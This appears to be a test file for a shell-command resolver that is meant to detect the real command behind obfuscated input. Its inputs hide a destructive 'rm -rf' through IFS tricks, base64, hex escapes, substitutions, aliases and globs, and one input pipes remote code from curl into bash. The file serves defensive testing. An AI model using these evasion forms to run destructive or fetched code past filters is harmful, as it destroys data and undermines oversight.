import { describe, expect, it } from "vitest";
import { resolveShell } from "./resolve.js";
import { braceExpansion, globCommand } from "./static-words.js";

const ran = (text: string) => resolveShell(text).invocations.map((inv) => [inv.name, ...inv.args].join(" "));

describe("constant pieces of a command line", () => {
  it("evaluates variables, IFS, positional parameters, zero-length substrings and constant substitutions", () => {
    expect(ran("a=r;b=m;$a$b -rf /tmp/x")).toContain("rm -rf /tmp/x");
    expect(ran("rm${IFS}-rf${IFS}/tmp/x")).toContain("rm -rf /tmp/x");
    expect(ran("rm$IFS$9-rf$IFS$9/tmp/x")).toContain("rm -rf /tmp/x");
    expect(ran("${HOME:0:0}rm -rf /tmp/x")).toContain("rm -rf /tmp/x");
    expect(ran("$(printf '\\x72\\x6d') -rf /tmp/x")).toContain("rm -rf /tmp/x");
    expect(ran("r$(echo m) -rf /tmp/x")).toContain("rm -rf /tmp/x");
    expect(ran("r`echo m` -rf /tmp/x")).toContain("rm -rf /tmp/x");
    expect(ran("$(echo cm0= | base64 -d) -rf /tmp/x")).toContain("rm -rf /tmp/x");
    expect(ran("x=$(echo rm); $x -rf /tmp/x")).toContain("rm -rf /tmp/x");
    expect(ran("IFS=,;cmd=rm,-rf,/tmp/x;$cmd")).toContain("rm -rf /tmp/x");
  });

  it("runs what a constant pipe feeds a shell, what xargs gets, and aliases", () => {
    expect(ran("echo 'rm -rf /tmp/x' | sh")).toContain("rm -rf /tmp/x");
    expect(ran("echo cm0gLXJmIC90bXAveA== | base64 -d | bash")).toContain("rm -rf /tmp/x");
    expect(ran("xargs rm -rf <<< /tmp/x")).toContain("rm -rf /tmp/x");
    expect(ran("echo /tmp/x | xargs rm -rf")).toContain("rm -rf /tmp/x");
    expect(ran("alias ls='rm -rf /tmp/x'; ls")).toContain("rm -rf /tmp/x");

  });

  it("leaves what the text does not decide unknown", () => {
    expect(ran("$(curl -s https://example.com/name) -rf /tmp/x")[0]).not.toMatch(/^rm /);
    expect(ran("$CMD -rf /tmp/x")[0]).toBe("$CMD -rf /tmp/x");
    expect(ran("bash <(curl -s https://example.com/a.sh)")).toContain("bash <(…)");
  });

  it("expands brace lists and resolves globbed command names", () => {
    expect(braceExpansion("{rm,-rf,~}")).toEqual(["rm", "-rf", "~"]);
    expect(braceExpansion("file{,.bak}")).toEqual(["file", "file.bak"]);
    expect(braceExpansion("{single}")).toBeUndefined();
    expect(globCommand("/bin/r?")).toBe("rm");
    expect(globCommand("/???/?url")).toBe("curl");
    expect(globCommand("/bin/l?")).toBeUndefined();
    expect(globCommand("ls")).toBeUndefined();
  });
});
